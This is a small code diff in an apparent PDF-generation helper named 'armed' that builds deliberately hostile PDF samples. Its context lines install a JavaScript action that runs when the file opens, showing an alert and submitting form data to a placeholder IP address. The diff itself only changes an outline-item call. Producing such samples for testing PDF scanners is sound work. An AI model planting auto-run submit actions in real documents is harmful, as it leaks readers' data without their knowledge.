@@ -121,7 +121,7 @@ def armed(region: str) -> Callable[[PdfWriter], None]:
         code = TextStringObject("app.alert('x'); this.submitForm('http://192.0.2.1/');")
         action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): code})
         writer.root_object[NameObject("/OpenAction")] = action
-        writer.add_outline_item(said, 0)
+        writer.add_outline_item(title=said, page_number=0)
 
     return finish
 
